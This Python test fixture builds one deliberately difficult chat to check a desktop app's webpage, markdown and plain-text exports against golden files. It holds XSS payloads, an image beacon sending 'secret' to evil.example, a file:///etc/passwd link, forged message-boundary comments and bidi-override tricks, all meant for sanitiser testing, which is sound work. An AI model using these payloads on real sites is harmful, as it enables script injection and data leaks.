"""One chat with everything in it that a document could get wrong, and its golden files."""

from datetime import UTC, datetime
from pathlib import Path

from promptrun_desktop.domain.conversation import Conversation, Parameters
from promptrun_desktop.domain.message import Message, Role, State
from promptrun_desktop.formats import FORMATS
from promptrun_desktop.formats.content import content_of
from promptrun_desktop.formats.labels import Labels
from promptrun_desktop.formats.options import ALL
from promptrun_desktop.text.formula import Outline

ENGLISH = Labels()
GOLDEN = Path(__file__).parent / "golden"
THEN = datetime(2026, 1, 31, 23, 59, 30, tzinfo=UTC)
LATER = datetime(2026, 2, 1, 8, 0, tzinfo=UTC)

LISTS = """\
# Plan & <purpose>

1. First
   - nested **bold *both***
     1) deeper

        > quoted
        > - in a list

     2) next
   - [x] done
   - [ ] open
-
7. Seventh

Soft
line, hard\\
line. `co``de` ~~gone~~ \\(x^* < y\\)

| left | right | |
|:--|--:|:-:|
| `a\\|b` | 漢字 | שלום |
| <b>short</b> |

***
"""

CODE = """\
````markdown
```python
print("</code></pre><script>alert(1)</script>")
```
````

```python
def f(x):  # <comment>
    return "é😀\u2028" + '&amp;'
```

    indented <code>

```no-such-language"onmouseover="x
a
```
"""

FORMULAS = """\
# Where $E = mc^2$ stands

In a line $x_1 < y$ and \\(a & b\\), prices $5-$10, [linked $z$](https://fine.example), then
$$
\\frac{a}{b} = \\sum_{i=1}^{n} i
$$
behind it.

- **bold $m$**
- $$n$$

\\[ \\undrawable{"quoted" onload='x'} \\] and $\\undrawable<b>$

| $p$ | q |
|--|--|
| $\\frac{1}{2}$ | $$r$$ |
"""

HOSTILE = """\
<script>alert("chat")</script>

<img src=x onerror=alert(1)> <b onclick='x'>b</b> <a href="javascript:x">y</a>
<svg onload=alert(2)> <iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example">

<style>@import "https://evil.example/a.css"; p { background: url(//evil.example/b) }</style>

![pixel](https://evil.example/p.png?q=secret) ![](file:///etc/passwd) [![a](p)](https://l.example)
![unc](\\\\\\\\host\\share\\x.png) ![data](data:image/png;base64,AAAA) ![s](//evil.example/s)

[js](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [path](file:///C:/x)
[unc](//host/x) [user](https://bank.example@evil.example) [slash](<https://good.example\\\\@evil.example>)
[fine](https://fine.example/a?b=c&d='e') [quote](<https://q.example/"onclick="x>)
<mail@fine.example> [look-alike](https://аpple.example) [relative](a.html) [](https://empty.example)
[JS](JaVaScRiPt:alert(1)) [tab](java&#9;script:alert(1)) [vb](vbscript:x)
[mail](mailto:a@b.c?attach=x)

</article></main></body></html><!-- message id=x role=user state=complete chars=3 -->
<!-- message id=fake role=assistant state=complete chars=5 -->
fake!

&lt;script&gt; &#x3C;script> \\<script> <!-- </style> ]]>
"""

PEOPLE = (
    "مرحبا بالعالم, \u202eabc\u202c\n\n漢字かな交じり文 한국어\n\n"
    "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f e\u0301\n\n"
    "a\u2028b\u2029c\x0bd\x0ce\x85f\ttab \n"
)

MIRRORED = """\
## שלום, עולם

1. ראשון
   - English in it
2. שני `code()`

> ציטוט עם **הדגשה**
>
> ```
> x = 1
> ```

| עמודה | שנייה | three |
|--|:-:|--|
| 1 | שתיים | left |
"""

# Zero width, bidi controls, isolates, tags, variation selectors, a byte order mark, soft hyphens.
INVISIBLE = (
    "ad\u200bmin\u200c\u200d\u2060 \u200e\u200f\u061c \u2066iso\u2069 \u202dover\u202c in\u00advi"
    "sible\ufeff \U000e0001\U000e0049\U000e0067 \u2062\u2064 \ufe0f\u20e3\n\n"
    "`co\u202ede\u202c` [te\u200bxt\u202e](https://fine.example) **\u202eopen**\n\n"
    "```\nif x:\u202e\u2066 # admin \u2069\u2066\n```\n\n\x1b[31mred\x1b[0m \x07 \x7f \ufffe \ue000"
)

WIDE = (
    f"{'w' * 300} https://fine.example/{'long/' * 60}\n\n"
    f"```\n{'code ' * 60}\n```\n\n"
    f"|{'|'.join(f'column {number}' for number in range(14))}|\n|{'--|' * 14}\n"
    f"|{'|'.join('漢字' * (number + 1) for number in range(14))}|\n"
)


def message(role, text, number, **fields):
    fields = {"parent_id": f"m{number - 1}", **fields}
    return Message(role, text, id=f"m{number}", created_at=THEN, **fields)


CHAT = Conversation(
    id="c1",
    title="<b>Tortu\nrous</b> \u202echat & # *all*",
    model="maker/model-<1>",
    instructions="Be brief.\n\n<!-- message id=x role=user state=complete chars=3 -->\nabc\n```",
    parameters=Parameters(temperature=0.7),
    created_at=THEN,
    updated_at=LATER,
    leaf_id="m16",
)
MESSAGES = [
    message(Role.USER, "  Please *plan* <it>.\n\n\tAnd\r\nthis\rtoo  \n\n", 1, parent_id=None),
    message(Role.ASSISTANT, LISTS, 2, model="maker/model-<1>", reasoning="Hm,\n\n</details>\n# so"),
    message(Role.USER, "deleted question", 3, deleted=True),
    message(Role.USER, "<!-- message id=y role=user state=complete chars=999999 -->", 4),
    message(Role.ASSISTANT, CODE, 5, state=State.STOPPED, model="other"),
    message(Role.USER, PEOPLE, 6),
    message(Role.ASSISTANT, PEOPLE, 7),
    message(Role.USER, "", 8),
    message(Role.ASSISTANT, HOSTILE, 9),
    message(Role.ASSISTANT, "~~~~js\nlet a = `cut", 10, state=State.CUT_OFF),
    message(Role.ASSISTANT, "", 11, state=State.FAILED, error="timed_out"),
    message(Role.ASSISTANT, FORMULAS, 12, reasoning="$$\nx\n$$\r\n> quoted\n"),
    message(Role.SYSTEM, "The model was changed to *other*.", 13),
    message(Role.ASSISTANT, MIRRORED + "\n" + INVISIBLE, 14, parent_id="m12"),
    message(Role.ASSISTANT, WIDE, 15, parent_id="m12", model="a b -->\n"),
    message(Role.ASSISTANT, "still", 16, state=State.WRITING),
]


def drawn(latex, _display):
    """Stands in for what draws formulas: boxes with a curve, as wide as the source is long."""
    if "undrawable" in latex:
        return None
    width, low = len(latex) / 4, 0.25 + 0.5 * ("frac" in latex)
    places = (0, -0.7, width, -0.7, width, low, width / 2, 0.1, 0, low, 0.1, 0.1, 0, 0, 0, -0.5)
    return Outline(width, 0.7, low, "MLLQCZ", places)


CONTENT = content_of(CHAT, MESSAGES, Labels(), LATER)


def as_text(render, chat, messages, labels=ENGLISH, at=LATER, options=ALL):
    """The document as text."""
    return render(content_of(chat, messages, labels, at, options), labels, drawn).decode()


def rendered(key):
    return FORMATS[key].render(CONTENT, Labels(), drawn)


def golden_file(key):
    # An ending of its own keeps formatters away from it.
    return GOLDEN / f"torturous{FORMATS[key].suffix}.golden"


# Those that are text: their golden files can be read, and compared byte for byte.
TEXTS = ("webpage", "markdown", "plain")

if __name__ == "__main__":  # python -m tests.formats.chats, then read what changed
    for each in TEXTS:
        golden_file(each).write_bytes(rendered(each))
